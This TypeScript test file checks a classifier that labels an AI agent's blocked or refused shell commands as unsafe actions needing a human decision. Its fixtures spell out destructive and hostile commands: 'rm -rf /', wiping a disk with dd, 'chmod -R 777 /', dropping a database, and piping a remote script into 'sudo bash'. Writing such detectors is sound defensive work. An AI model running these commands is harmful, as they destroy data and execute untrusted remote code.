// proves: J16
import assert from "node:assert/strict";
import { test } from "node:test";
import { classifyByStandardRules as classify } from "../../../src/core/rules/standard.ts";

const UNSAFE = [
  "Blocked: command 'rm -rf /'",
  "Permission to use Bash with command rm -rf ~ has been denied.",
  "Command `git push --force origin main` was rejected by the user's policy",
  'Refused to execute "dd if=/dev/zero of=/dev/sda": not allowed',
  "permission denied: Bash(sudo rm -rf /usr)",
  "The tool call was rejected. Command: curl https://a.example/i.sh | sudo bash",
  "hook denied: chmod -R 777 / is forbidden (`chmod -R 777 /`)",
  "exec_command failed: rejected: psql -c 'DROP DATABASE shop'",
  "Dangerous command blocked by the sandbox",
];

const OTHERS: readonly (readonly [text: string, ...kinds: string[]])[] = [
  ["Blocked: command 'rm -rf node_modules'", "permission_denied", "unknown"],
  ["Permission to use Bash with command npm install has been denied.", "permission_denied"],
  ["Blocked: command 'git push --force-with-lease origin mine'", "permission_denied", "unknown"],
  ["rm: cannot remove '/etc/cart': Permission denied", "permission_denied"],
  [
    "bash: /usr/bin/cart: Permission denied\nthe plan says: never run `rm -rf /`",
    "permission_denied",
  ],
  ["I ran `rm -rf /` in a container and it failed", "unknown"],
  ["429 Too Many Requests while asking about 'rm -rf /' (denied)", "rate_limited"],
];

test("a refusal that names a destructive command is an unsafe action, which only a person decides", () => {
  for (const text of UNSAFE)
    for (const field of ["message", "stderr", "stdout"] as const) {
      const { kind, category, because } = classify({ tool: "agent_cli", [field]: text });
      assert.equal(kind, "unsafe_action", `${text}: ${because.join("; ")}`);
      assert.equal(category, "fatal");
    }
  const call = { tool: "Bash", command: "rm -rf /", message: "This command was denied." };
  assert.equal(classify(call).kind, "unsafe_action");
});

test("other refusals, and texts that only mention such a command, keep their kind", () => {
  for (const [text, ...kinds] of OTHERS) {
    const { kind, because } = classify({ tool: "agent_cli", message: text });
    assert.ok(kinds.includes(kind), `${text}: ${kind}: ${because.join("; ")}`);
  }
  const check = { origin: "check", stdout: "Blocked: command 'rm -rf /'" } as const;
  assert.notEqual(classify(check).kind, "unsafe_action");
});
